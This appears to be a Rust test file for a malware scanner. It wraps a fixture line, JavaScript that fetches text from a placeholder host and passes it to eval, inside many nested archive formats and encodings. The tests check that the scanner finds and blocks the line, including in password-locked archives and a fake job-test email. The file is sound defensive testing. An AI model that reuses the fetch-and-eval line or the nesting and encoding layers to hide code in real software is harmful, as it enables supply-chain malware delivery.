//! Containers: each holds the same lure, three levels deep, and it is found under the right locator. Archives are made by
//! the writers of the libraries where there are some, and byte by byte after the format's description where there are none.

use std::io::{Cursor, Write};

use lurescan::finding::{Report, Verdict};
use lurescan::signal::GapReason;

use crate::ambiguity::scan_bytes;
use crate::unpack::gzip;

const LURE: &[u8] = b"fetch('https://lure.invalid/x').then((r) => r.text()).then((t) => eval(t));\n";

fn le(value: usize, width: usize) -> Vec<u8> {
    value.to_le_bytes()[..width].to_vec()
}

/// The innermost level: a package with the lure.
fn package() -> Vec<u8> {
    gzip(&tar(&[("package/index.js", LURE)]))
}

/// The outermost level.
pub fn job(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    out.start_file(name, zip::write::SimpleFileOptions::default()).expect("memory");
    out.write_all(bytes).expect("memory");
    out.finish().expect("memory").into_inner()
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    for (name, content) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        out.append_data(&mut header, name, *content).expect("memory");
    }
    out.into_inner().expect("memory")
}

fn seven(members: &[(&str, &[u8])], password: Option<&str>, header: bool) -> Vec<u8> {
    use sevenz_rust2::encoder_options::AesEncoderOptions;
    let mut out = sevenz_rust2::ArchiveWriter::new(Cursor::new(Vec::new())).expect("memory");
    if let Some(password) = password {
        let aes = AesEncoderOptions { num_cycles_power: 6, ..AesEncoderOptions::new(password.into()) };
        out.set_content_methods(vec![aes.into(), sevenz_rust2::EncoderMethod::LZMA2.into()]);
    }
    out.set_encrypt_header(header);
    let entries: Vec<_> = members.iter().map(|(name, _)| sevenz_rust2::ArchiveEntry::new_file(name)).collect();
    let readers: Vec<_> =
        members.iter().map(|(_, content)| sevenz_rust2::SourceReader::new(Cursor::new(content.to_vec()))).collect();
    out.push_archive_entries(entries, readers).expect("memory");
    out.finish().expect("memory").into_inner()
}

/// A cabinet of one file.
pub fn cabinet(name: &str, content: &[u8]) -> Vec<u8> {
    let mut builder = cab::CabinetBuilder::new();
    builder.add_folder(cab::CompressionType::MsZip).add_file(name);
    let mut writer = builder.build(Cursor::new(Vec::new())).expect("memory");
    while let Some(mut file) = writer.next_file().expect("memory") {
        file.write_all(content).expect("memory");
    }
    writer.finish().expect("memory").into_inner()
}

fn compound(name: &str, content: &[u8]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("memory");
    file.create_storage("/Data").expect("memory");
    file.create_stream(format!("/Data/{name}")).expect("memory").write_all(content).expect("memory");
    file.into_inner().into_inner()
}

fn ar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = b"!<arch>\n".to_vec();
    for (name, content) in members {
        out.extend(format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, "100644", content.len()).bytes());
        out.extend(*content);
        out.resize(out.len().next_multiple_of(2), b'\n');
    }
    out
}

fn asar(name: &str, content: &[u8]) -> Vec<u8> {
    let tree = format!(
        "{{\"files\":{{\"dist\":{{\"files\":{{\"{name}\":{{\"size\":{},\"offset\":\"0\"}}}}}}}}}}",
        content.len()
    );
    let padded = tree.len().next_multiple_of(4);
    let mut out = [le(4, 4), le(padded + 8, 4), le(padded + 4, 4), le(tree.len(), 4)].concat();
    out.extend(tree.bytes());
    out.resize(16 + padded, 0);
    [out, content.to_vec()].concat()
}

/// Which names an image has.
#[derive(Clone, Copy, PartialEq)]
enum Names {
    Short,
    RockRidge,
    Joliet,
}

fn iso_record(start: usize, size: usize, flags: u8, name: &[u8], system: &[u8]) -> Vec<u8> {
    let pad = 1 - name.len() % 2;
    let length = 33 + name.len() + pad + system.len();
    let length = length.next_multiple_of(2);
    let both = |n: usize| [le(n, 4), n.to_be_bytes()[4..].to_vec()].concat();
    let mut out =
        [vec![length as u8, 0], both(start), both(size), vec![0; 7], vec![flags, 0, 0], vec![1, 0, 0, 1]].concat();
    out.push(name.len() as u8);
    out.extend(name);
    out.resize(out.len() + pad, 0);
    out.extend(system);
    out.resize(length, 0);
    out
}

/// An image with one folder `data` and one file in it.
fn iso(name: &str, content: &[u8], names: Names) -> Vec<u8> {
    const SECTOR: usize = 2_048;
    let (root, folder, file) = (20, 21, 22);
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
    let system = |name: &str| [b"NM".to_vec(), vec![name.len() as u8 + 5, 1, 0], name.as_bytes().to_vec()].concat();
    let (data, given, long) = match names {
        Names::Short => (b"DATA".to_vec(), name.to_ascii_uppercase().into_bytes(), Vec::new()),
        Names::RockRidge => (b"DATA".to_vec(), b"LURE0001.TGZ;1".to_vec(), system(name)),
        Names::Joliet => (wide("data"), wide(&format!("{name};1")), Vec::new()),
    };
    let folder_name = if names == Names::RockRidge { system("data") } else { Vec::new() };
    let root_record = iso_record(root, SECTOR, 2, &[0], b"");
    let mut descriptor = vec![0; SECTOR];
    descriptor[0] = if names == Names::Joliet { 2 } else { 1 };
    descriptor[1..6].copy_from_slice(b"CD001");
    if names == Names::Joliet {
        descriptor[88..91].copy_from_slice(b"%/E");
    }
    descriptor[156..190].copy_from_slice(&root_record[..34]);
    let mut end = vec![0; SECTOR];
    end[..6].copy_from_slice(b"\xffCD001");
    let dots = |here: usize| [iso_record(here, SECTOR, 2, &[0], b""), iso_record(root, SECTOR, 2, &[1], b"")].concat();
    let mut first = [dots(root), iso_record(folder, SECTOR, 2, &data, &folder_name)].concat();
    first.resize(SECTOR, 0);
    let mut second = [dots(folder), iso_record(file, content.len(), 0, &given, &long)].concat();
    second.resize(SECTOR, 0);
    [vec![0; 16 * SECTOR], descriptor, end, vec![0; 2 * SECTOR], first, second, content.to_vec()].concat()
}

fn pyinstaller(name: &str, content: &[u8]) -> Vec<u8> {
    let stub = b"\x7fELF\x02\x01\x01\0stub".repeat(20);
    let packed = {
        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        out.write_all(content).expect("memory");
        out.finish().expect("memory")
    };
    // A library of compiled modules with one module, in marshal: [("mod", (0, place, length))].
    let module = {
        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        out.write_all(b"\xe3code of a module").expect("memory");
        out.finish().expect("memory")
    };
    let mut library =
        [b"PYZ\0\xcb\x0d\x0d\x0a".to_vec(), (17 + module.len()).to_be_bytes()[4..].to_vec(), vec![0; 5]].concat();
    library.extend(&module);
    library.extend(
        [
            b"[\x01\0\0\0)\x02z\x03mod)\x03i".to_vec(),
            le(0, 4),
            b"i".to_vec(),
            le(17, 4),
            b"i".to_vec(),
            le(module.len(), 4),
        ]
        .concat(),
    );
    let be = |n: usize| n.to_be_bytes()[4..].to_vec();
    let entry = |at: usize, packed: usize, size: usize, flag: u8, kind: u8, name: &str| {
        let length = 18 + name.len() + 1;
        [be(length), be(at), be(packed), be(size), vec![flag, kind], name.as_bytes().to_vec(), vec![0]].concat()
    };
    let table = [
        entry(0, packed.len(), content.len(), 1, b'x', name),
        entry(packed.len(), library.len(), library.len(), 0, b'z', "PYZ-00.pyz"),
    ]
    .concat();
    let body = [packed.clone(), library.clone(), table.clone()].concat();
    let mut cookie = b"MEI\x0c\x0b\x0a\x0b\x0e".to_vec();
    cookie.extend([be(body.len() + 88), be(packed.len() + library.len()), be(table.len()), be(312)].concat());
    cookie.extend(b"libpython3.12.so.1.0");
    cookie.resize(88, 0);
    [stub, body, cookie].concat()
}

fn mail(name: &str, content: &[u8]) -> Vec<u8> {
    let lines: Vec<String> = data_encoding::BASE64
        .encode(content)
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect();
    format!(
        "From: hr@company.test\r\nTo: you@home.test\r\nSubject: Technical test\r\nMIME-Version: 1.0\r\nContent-Type: \
         multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nThe task is attached.\r\n--b\r\nContent-Type: \
         application/octet-stream\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: \
         base64\r\n\r\n{}\r\n--b--\r\n",
        lines.join("\r\n")
    )
    .into_bytes()
}

/// A bundle of one commit with one file (gitformat-bundle, gitformat-pack), and how a locator names that version of the file.
fn bundle(name: &str, content: &[u8]) -> (Vec<u8>, String) {
    use git2::{ObjectType, Oid};
    let named = |kind, bytes: &[u8]| Oid::hash_object(kind, bytes).expect("memory");
    let tree = [format!("100644 {name}\0").into_bytes(), named(ObjectType::Blob, content).as_bytes().to_vec()].concat();
    let who = "A <a@home.test> 1700000000 +0000";
    let commit = format!("tree {}\nauthor {who}\ncommitter {who}\n\nx\n", named(ObjectType::Tree, &tree)).into_bytes();
    let id = named(ObjectType::Commit, &commit);
    let mut pack = b"PACK\0\0\0\x02\0\0\0\x03".to_vec();
    for (kind, bytes) in [(1, &commit[..]), (2, &tree), (3, content)] {
        // Four bits of the length beside the kind, then seven at a time.
        let mut left = bytes.len() >> 4;
        pack.push((kind << 4) | (bytes.len() & 15) as u8 | if left > 0 { 0x80 } else { 0 });
        while left > 0 {
            pack.push((left & 0x7f) as u8 | if left > 0x7f { 0x80 } else { 0 });
            left >>= 7;
        }
        let mut out = flate2::write::ZlibEncoder::new(pack, flate2::Compression::default());
        out.write_all(bytes).expect("memory");
        pack = out.finish().expect("memory");
    }
    let sum = <sha1::Sha1 as sha1::Digest>::digest(&pack);
    let head = format!("# v2 git bundle\n{id} refs/heads/main\n{id} HEAD\n\n").into_bytes();
    let version = format!("{:.12}:{:.12}", id.to_string(), named(ObjectType::Blob, content).to_string());
    ([head, pack, sum.to_vec()].concat(), version)
}

/// A module of CPython 3.12 that holds texts: the code object field by field, as `marshal` writes it.
fn pyc(texts: &[&[u8]]) -> Vec<u8> {
    let short = |kind: u8, text: &str| [vec![kind, text.len() as u8], text.as_bytes().to_vec()].concat();
    let code = b"\x97\0d\0Z\0y\x01";
    let count = texts.len();
    let texts: Vec<u8> = texts.iter().flat_map(|text| [b"u", &le(text.len(), 4)[..], text].concat()).collect();
    [
        [b"\xcb\x0d\x0d\x0a".to_vec(), vec![0; 12], vec![0xe3], vec![0; 20]].concat(),
        [vec![b's'], le(code.len(), 4), code.to_vec(), vec![b')', count as u8], texts].concat(),
        [vec![b')', 1], short(b'z', "DATA"), b")\0".to_vec(), b"s\0\0\0\0".to_vec()].concat(),
        [short(b'z', "m.py"), short(b'z', "<module>"), short(b'z', "<module>"), le(1, 4)].concat(),
        b"s\0\0\0\0s\0\0\0\0".to_vec(),
    ]
    .concat()
}

fn lures(report: &Report) -> Vec<String> {
    let found = report.findings.iter().filter(|finding| finding.rule == "js-fetch-to-code");
    found.map(|finding| finding.locator.clone()).collect()
}

#[test]
fn every_container_gives_its_lure_up_under_the_right_locator() {
    let inner = package();
    let lure = std::str::from_utf8(LURE).expect("ASCII");
    let deep = "#gzip@0!/package/index.js";
    let page = format!("<html><body><p>x</p>\n<script>{lure}</script></body></html>\n");
    let drawing = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[{lure}]]></script></svg>\n");
    let map = serde_json::json!({"version":3,"sources":["webpack:///./src/index.js"],"sourcesContent":[lure],"mappings":"AAAA"});
    let notebook = serde_json::json!({"cells":[{"cell_type":"code","metadata":{},"outputs":[],
        "source":["%%javascript\n", lure]}],"metadata":{},"nbformat":4,"nbformat_minor":5});
    let spelled: String = LURE.iter().map(|b| format!("%{b:02x}")).collect();
    let url = format!("x = 'data:text/javascript,{spelled}';\n");
    let encoded = format!("x = 'data:text/javascript;base64,{}';\n", data_encoding::BASE64.encode(LURE));
    let (bundled, version) = bundle("p.tgz", &inner);
    // Constants too short to be told as encoded text one by one: only who reads the code object has them together.
    let constants = data_encoding::BASE64.encode(&inner);
    let pieces: Vec<&[u8]> = constants.as_bytes().chunks(60).collect();
    let table: Vec<(&str, Vec<u8>, String)> = vec![
        ("d.7z", seven(&[("a.txt", b"x"), ("in/p.tgz", &inner)], None, false), format!("!/in/p.tgz{deep}")),
        ("d.iso", iso("p.tgz", &inner, Names::Short), format!("!/data/p.tgz{deep}")),
        ("rr.iso", iso("Package.tgz", &inner, Names::RockRidge), format!("!/data/Package.tgz{deep}")),
        ("j.iso", iso("Package.tgz", &inner, Names::Joliet), format!("!/data/Package.tgz{deep}")),
        ("app.asar", asar("p.tgz", &inner), format!("!/dist/p.tgz{deep}")),
        ("d.a", ar(&[("p.tgz/", &inner)]), format!("!/p.tgz{deep}")),
        (
            "d.deb",
            ar(&[("debian-binary", b"2.0\n"), ("data.tar.gz", &gzip(&tar(&[("./usr/p.tgz", &inner)])))]),
            format!("!/data.tar.gz#gzip@0!/usr/p.tgz{deep}"),
        ),
        ("d.cab", cabinet("in\\p.tgz", &inner), format!("!/in/p.tgz{deep}")),
        ("d.msi", compound("p.tgz", &inner), format!("!/Data/p.tgz{deep}")),
        ("d.exe", pyinstaller("p.tgz", &inner), format!("!/p.tgz{deep}")),
        ("d.eml", mail("p.tgz", &inner), format!("!/p.tgz{deep}")),
        ("d.crate", gzip(&tar(&[("c-1.0.0/p.tgz", &inner)])), format!("#gzip@0!/c-1.0.0/p.tgz{deep}")),
        (
            "d.gem",
            tar(&[("metadata.gz", &gzip(b"--- !ruby\n")), ("data.tar.gz", &gzip(&tar(&[("lib/p.tgz", &inner)])))]),
            format!("!/data.tar.gz#gzip@0!/lib/p.tgz{deep}"),
        ),
        ("d.bundle", bundled, format!("!/p.tgz@{version}{deep}")),
        ("m.pyc", pyc(&pieces), format!("#embedded@0#base64@0{deep}")),
        ("d.png", [b"\x89PNG\r\n\x1a\n".to_vec(), job("p.tgz", &inner)].concat(), format!("!/p.tgz{deep}")),
        ("in.tgz", gzip(&tar(&[("page.html", page.as_bytes())])), "#gzip@0!/page.html#embedded@29".to_owned()),
        ("in.tgz", gzip(&tar(&[("d.svg", drawing.as_bytes())])), "#gzip@0!/d.svg#embedded@57".to_owned()),
        (
            "in.tgz",
            gzip(&tar(&[("i.js.map", map.to_string().as_bytes())])),
            "#gzip@0!/i.js.map!/src/index.js".to_owned(),
        ),
        (
            "in.tgz",
            gzip(&tar(&[("n.ipynb", notebook.to_string().as_bytes())])),
            "#gzip@0!/n.ipynb#embedded@".to_owned(),
        ),
        ("in.tgz", gzip(&tar(&[("u.js", url.as_bytes())])), "#gzip@0!/u.js#percent@26".to_owned()),
        ("in.tgz", gzip(&tar(&[("u.js", encoded.as_bytes())])), "#gzip@0!/u.js#base64@33".to_owned()),
    ];
    let mut wrong = Vec::new();
    for (name, bytes, at) in table {
        let report = scan_bytes("job.zip", job(name, &bytes));
        let wanted = format!("job.zip!/{name}{at}");
        let found = lures(&report).iter().any(|locator| locator.starts_with(&wanted));
        if !found || report.verdict != Verdict::Block {
            let all: Vec<_> = report.findings.iter().map(|f| format!("{} {}", f.rule, f.locator)).collect();
            wrong.push(format!("{wanted}: {:?}\n  {all:?}\n  {:?}", report.verdict, report.gaps));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("memory");
    out.finish().expect("memory")
}

/// As Python's `b85encode`.
fn base85(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let groups = bytes.chunks(4).flat_map(|chunk| {
        let mut word = [0; 4];
        word[..chunk.len()].copy_from_slice(chunk);
        let value = u32::from_be_bytes(word);
        let digits = (0..5).rev().map(|place| DIGITS[(value / 85u32.pow(place) % 85) as usize] as char);
        digits.take(chunk.len() + 1).collect::<Vec<_>>()
    });
    groups.collect()
}

#[test]
fn every_layer_is_peeled_to_the_end() {
    let base64 = data_encoding::BASE64.encode(LURE);
    let reversed: String = base64.trim_end_matches('=').chars().rev().collect();
    let deflated = {
        let mut out = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        out.write_all(&LURE.repeat(2)).expect("memory");
        out.finish().expect("memory")
    };
    let utf16: Vec<u8> = String::from_utf8_lossy(LURE).encode_utf16().flat_map(u16::to_le_bytes).collect();
    let entities: String = LURE.iter().map(|b| format!("&#{b};")).collect();
    let escapes: String = LURE.iter().map(|b| format!("\\x{b:02x}")).collect();
    let ascii85 = {
        let groups = LURE.chunks(4).map(|chunk| {
            let mut word = [0; 4];
            word[..chunk.len()].copy_from_slice(chunk);
            let mut value = u32::from_be_bytes(word);
            let mut digits = [0u8; 5];
            for digit in digits.iter_mut().rev() {
                *digit = b'!' + (value % 85) as u8;
                value /= 85;
            }
            String::from_utf8_lossy(&digits[..chunk.len() + 1]).into_owned()
        });
        format!("<~{}~>", groups.collect::<String>())
    };
    let lines = |text: &str| {
        text.as_bytes().chunks(60).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join("\n")
    };
    let table: Vec<(&str, String, &str)> = vec![
        ("base64", base64.clone(), "#base64@0"),
        ("base64 over lines", lines(&data_encoding::BASE64.encode(&LURE.repeat(2))), "#base64@0"),
        ("base64 for URLs", data_encoding::BASE64URL_NOPAD.encode(LURE), "#base64@0"),
        ("base64 backwards", reversed, "#base64-reversed@0"),
        ("base64 of base64", data_encoding::BASE64.encode(base64.as_bytes()), "#base64@0#base64@0"),
        ("base64 of deflate", data_encoding::BASE64.encode(&deflated), "#base64@0#deflate@0"),
        ("base64 of gzip", data_encoding::BASE64.encode(&gzip(LURE)), "#base64@0#gzip@0"),
        ("base64 of UTF-16", data_encoding::BASE64.encode(&utf16), "#base64@0#utf16@0"),
        ("base32", data_encoding::BASE32.encode(LURE), "#base32@0"),
        ("hex", data_encoding::HEXLOWER.encode(LURE), "#hex@0"),
        ("hex of base64", data_encoding::HEXUPPER.encode(base64.as_bytes()), "#hex@0#base64@0"),
        ("ascii85", ascii85, "#ascii85@0"),
        ("base85 of RFC 1924", format!("x = b85decode('{}')", base85(LURE)), "#base85@15"),
        ("base85 of deflate", base85(&zlib(&LURE.repeat(2))), "#base85@0#zlib@0"),
        ("percent", LURE.iter().map(|b| format!("%{b:02X}")).collect(), "#percent@0"),
        ("entities", entities, "#entities@0"),
        ("escapes", escapes, "#escapes@0"),
    ];
    let mut wrong = Vec::new();
    for (what, text, at) in table {
        let report = scan_bytes("notes.txt", text.clone().into_bytes());
        if !lures(&report).contains(&format!("notes.txt{at}")) {
            let all: Vec<_> = report.findings.iter().map(|f| format!("{} {}", f.rule, f.locator)).collect();
            wrong.push(format!("{what}: {all:?} {:?}\n  {text}", report.gaps));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn locked_archives_open_with_the_usual_passwords_and_those_beside_them() {
    let inner = package();
    let locked_zip = |password: &str, aes: bool| {
        let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default();
        let options = match aes {
            true => options.with_aes_encryption(zip::AesMode::Aes256, password),
            false => zip::unstable::write::FileOptionsExt::with_deprecated_encryption(options, password.as_bytes())
                .expect("memory"),
        };
        out.start_file("in/p.tgz", options).expect("memory");
        out.write_all(&inner).expect("memory");
        out.finish().expect("memory").into_inner()
    };
    let seven = |password: &str, header: bool| seven(&[("in/p.tgz", &inner)], Some(password), header);
    let told = |archive: (&str, Vec<u8>), text: &str| tar(&[(archive.0, &archive.1), ("README.md", text.as_bytes())]);
    let open: Vec<(&str, Vec<u8>)> = vec![
        ("a.zip", locked_zip("infected", false)),
        ("a.zip", locked_zip("infected", true)),
        ("task.zip", locked_zip("task", true)),
        ("a.7z", seven("malware", false)),
        ("a.7z", seven("infected", true)),
        ("a.tar", told(("x.zip", locked_zip("Sesame-26", false)), "The password is: Sesame-26\n")),
        ("a.tar", told(("x.zip", locked_zip("Sesame-26", true)), "**Password:** `Sesame-26`\n")),
        ("a.tar", told(("x.7z", seven("Sesame-26", true)), "pwd = Sesame-26\n")),
    ];
    for (name, bytes) in open {
        let report = scan_bytes(name, bytes);
        assert_eq!(report.verdict, Verdict::Block, "{name}: {:?}", report.gaps);
        assert!(lures(&report)[0].ends_with("in/p.tgz#gzip@0!/package/index.js"), "{:?}", lures(&report));
        assert!(report.gaps.is_empty(), "{name}: {:?}", report.gaps);
    }
    for (name, bytes) in [("a.zip", locked_zip("nobody knows", true)), ("a.7z", seven("nobody knows", true))] {
        let report = scan_bytes(name, bytes);
        assert_eq!(report.verdict, Verdict::Incomplete, "{name}");
        assert!(report.gaps.iter().any(|gap| gap.reason == GapReason::Encrypted), "{:?}", report.gaps);
    }
    let story =
        told(("x.zip", locked_zip("nobody knows", true)), "# Coding challenge\n\nDear candidate, see the archive.\n");
    let report = scan_bytes("job.tar", story);
    assert_eq!(report.verdict, Verdict::Review);
    assert!(report.findings.iter().any(|f| f.rule == "locked-archive" && f.locator == "job.tar!/x.zip"));
}

#[test]
fn a_tree_of_udf_is_named_and_a_gap() {
    let described = |name: &[u8]| [&[0], name, &[1], &[0; 2_041][..]].concat();
    let alone = [vec![0; 16 * 2_048], described(b"BEA01"), described(b"NSR02"), described(b"TEA01")].concat();
    let mut beside = iso("p.tgz", &package(), Names::Joliet);
    // Sectors 18 and 19 are between the descriptors and the first folder.
    beside[18 * 2_048..19 * 2_048].copy_from_slice(&described(b"NSR03"));
    for (name, bytes) in [("alone.img", alone), ("beside.iso", beside)] {
        let report = scan_bytes(name, bytes);
        assert_ne!(report.verdict, Verdict::Pass, "{name}");
        assert!(report.gaps.iter().any(|gap| gap.reason.to_string().contains("UDF")), "{name}: {:?}", report.gaps);
    }
}

#[test]
fn the_names_of_a_rar_archive_are_listed_and_the_rest_is_a_gap() {
    // Version 5: an archive header, one file header, the end.
    let file = |name: &str| {
        let body = [vec![2, 0, 0, 0, 0, 0, 0, name.len() as u8], name.as_bytes().to_vec()].concat();
        [vec![0; 4], vec![body.len() as u8], body].concat()
    };
    let bytes =
        [b"Rar!\x1a\x07\x01\0".to_vec(), vec![0, 0, 0, 0, 3, 1, 0, 0], file("src/task.js"), vec![0, 0, 0, 0, 2, 5, 0]];
    let report = scan_bytes("a.rar", bytes.concat());
    assert_eq!(report.verdict, Verdict::Incomplete);
    assert!(report.gaps[0].reason.to_string().contains("src/task.js"), "{:?}", report.gaps);
}

#[test]
fn compiled_modules_of_a_bundled_program_are_members() {
    let report = scan_bytes("job.zip", job("d.exe", &pyinstaller("data.bin", b"x")));
    assert!(report.stats.unpacked >= 3, "the program, its data and a module: {:?}", report.stats);
    assert!(report.gaps.iter().all(|gap| !gap.reason.to_string().contains("PyInstaller")), "{:?}", report.gaps);
}
